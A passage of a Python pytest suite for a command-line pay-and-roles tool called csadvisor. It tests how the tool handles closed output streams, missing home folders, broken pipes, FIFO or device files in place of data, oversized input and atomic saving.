        stdout=None, stderr=subprocess.PIPE, timeout=30, check=False,
        preexec_fn=lambda: os.close(1),
    )  # fmt: skip
    assert done.returncode == 74, done.stderr
    assert done.stderr.decode() == "csadvisor: cannot write output (standard output is closed)\n"


@pytest.mark.parametrize("value", ["nan", "NaN", "inf", "-inf", "1e400"])
def test_a_non_finite_adjust_is_a_usage_error_before_any_output(value: str) -> None:
    out = here("pay", "csr", "--adjust", value, "-f", "tsv")
    assert out.exit_code == 2, out
    assert out.stdout == ""
    assert out.stderr.count("\n") == 1
    assert "--adjust" in out.stderr


@pytest.mark.parametrize("how", ["no passwd entry", "empty HOME"])
def test_without_a_home_folder_commands_work_and_saving_names_the_variable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, invoke: Any, how: str
) -> None:
    import pwd

    for name in ("CSADVISOR_HOME", "CSADVISOR_CACHE_DIR", "XDG_CACHE_HOME", "XDG_CONFIG_HOME"):
        monkeypatch.delenv(name, raising=False)
    if how == "no passwd entry":  # HOME unset and a uid with no account, as in containers

        def no_account(uid: int) -> Any:
            raise KeyError(f"getpwuid(): uid not found: {uid}")

        monkeypatch.delenv("HOME", raising=False)
        monkeypatch.setattr(pwd, "getpwuid", no_account)
    else:
        monkeypatch.setenv("HOME", "")
    monkeypatch.chdir(tmp_path)
    assert folders.cache() is None
    paid = invoke("pay", "csr", "-f", "tsv")
    assert paid.exit_code == 0, paid.stderr
    answers = tmp_path / "a.yaml"
    answers.write_text(yaml.safe_dump(base_answers() | {"role": "csr", "skills": {}}), "utf-8")
    saved = invoke("assess", "--answers", str(answers), "--missing", "2", "-f", "json")
    assert saved.exit_code == 2, saved.stderr
    assert "CSADVISOR_HOME" in saved.stderr
    assert saved.stdout == ""
    listed = invoke("history")
    assert listed.exit_code == 2
    assert "CSADVISOR_HOME" in listed.stderr
    assert not (tmp_path / "~").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.yaml"]


@pytest.mark.parametrize(
    "args",
    [["--help"], ["pay", "--help"], ["roles", "-f", "table"], ["track", "-f", "table"],
     ["roles", "-f", "tsv"], ["role", "csr"]],
)  # fmt: skip
def test_output_cut_by_head_exits_0(args: list[str]) -> None:
    """Rich's Console.on_broken_pipe raises SystemExit(1) ("not found" here)."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "csadvisor", *args],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        env={**os.environ, "COLUMNS": "80"},
    )  # fmt: skip
    assert proc.stdout is not None
    proc.stdout.readline()
    proc.stdout.close()  # what `head -1` does after its line
    err = proc.stderr.read() if proc.stderr else b""
    assert proc.wait(timeout=30) == 0, err
    assert err == b""


@pytest.mark.parametrize(
    "env",
    [
        {},  # no COMP_WORDS at all
        {"COMP_WORDS": "", "COMP_CWORD": ""},
        {"COMP_CWORD": "abc", "COMP_WORDS": "csadvisor pay "},
    ],
    ids=["no-words", "empty", "cword-abc"],
)
def test_a_malformed_completion_environment_prints_nothing(env: dict[str, str]) -> None:
    full = {k: v for k, v in os.environ.items() if not k.startswith("COMP_")}
    full |= {"_CSADVISOR_COMPLETE": "complete_bash", **env}
    done = subprocess.run(
        [sys.executable, "-m", "csadvisor"], env=full, capture_output=True, timeout=30,
        check=False,
    )  # fmt: skip
    assert done.returncode == 0
    assert done.stdout == b""
    assert b"Traceback" not in done.stderr


# =========================================================================== §5 bounded work


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_history_skips_a_fifo_or_dev_zero_with_a_line(kind: str) -> None:
    good = _saved_result()
    good["id"] = "20260101-000000-aaaaaa"
    _write_saved(good)
    odd = history.directory() / "20260109-000000-zzzzzz.json"
    if kind == "fifo":
        os.mkfifo(odd)
    else:
        odd.symlink_to("/dev/zero")
    out = run("history", "-f", "tsv")  # a hang is a timeout, a read of /dev/zero a MemoryError
    assert out.exit_code == 0, out
    assert "20260101-000000-aaaaaa" in out.stdout
    (line,) = [ln for ln in out.stderr.splitlines() if str(odd) in ln]
    assert "not a regular file" in line


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_a_fifo_or_device_as_roles_yaml_is_refused(tmp_path: Path, kind: str) -> None:
    data = data_with(tmp_path)
    (data / "roles.yaml").unlink()
    if kind == "fifo":
        os.mkfifo(data / "roles.yaml")
    else:
        (data / "roles.yaml").symlink_to("/dev/zero")
    out = run("--data-dir", str(data), "roles")
    assert out.exit_code == 3, out
    assert (
        out.stderr == f"csadvisor: {data / 'roles.yaml'}: is not a regular file (a pipe or "
        "device?); not read\n"
    )


def test_a_six_megabyte_name_on_stdin_is_cut_short(tmp_path: Path) -> None:
    """The run has 10 seconds and 1 GiB (run_process); the name is echoed shortened."""
    line = b"a" * 6_000_000
    out = run("pay", "-", "--field", "low", stdin=b"csr\n" + line + b"\ncsr\n")
    assert out.exit_code == 1
    assert out.stdout == "38500\n\n38500\n"  # every line keeps its place
    unknown = [ln for ln in out.stderr.splitlines() if "unknown role" in ln]
    assert len(unknown) == 1
    assert unknown[0].startswith("csadvisor: line 2: unknown role 'aaa")
    assert "...'" in unknown[0]
    assert len(out.stderr) < 300
    table = run("pay", "-", "-f", "tsv", stdin=b"csr\n" + line + b"\n")
    assert table.exit_code == 1
    assert len(table.stdout) < 100_000  # the query column echoes at most the kept part


def test_memory_stays_bounded_at_an_absurd_terminal_width() -> None:
    """run_process limits the child to 1 GiB and 10 seconds."""
    for args in (["--help"], ["roles", "-f", "table"], ["pay", "--help"]):
        out = run(*args, env={"COLUMNS": "100000000", "TERMINAL_WIDTH": "100000000"})
        assert out.exit_code == 0, (args, out.stderr[-300:])
        assert max(len(ln) for ln in out.stdout.splitlines()) <= 1000


# =========================================================================== §6 saving


@pytest.mark.parametrize("code", [errno.EPERM, errno.ENOTSUP, errno.EXDEV])
def test_saving_without_hard_links_falls_back_to_an_exclusive_create(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int
) -> None:
    def no_links(src: Any, dst: Any, *args: Any, **kwargs: Any) -> None:
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(os, "link", no_links)
    target = tmp_path / "one.json"
    files.atomic_write_text(target, "first\n", mode=0o600, exclusive=True)
    assert target.read_text("utf-8") == "first\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    with pytest.raises(FileExistsError):
        files.atomic_write_text(target, "second\n", mode=0o600, exclusive=True)
    assert target.read_text("utf-8") == "first\n"  # never replaced
    assert sorted(p.name for p in tmp_path.iterdir()) == ["one.json"]  # no temp left
    # And through history: two saves in the same second get two files.
    result = _saved_result()
    from csadvisor.core.result import from_doc

    history.save(from_doc(result))
    history.save(from_doc(result))
    assert len(list(history.directory().glob("*.json"))) == 2
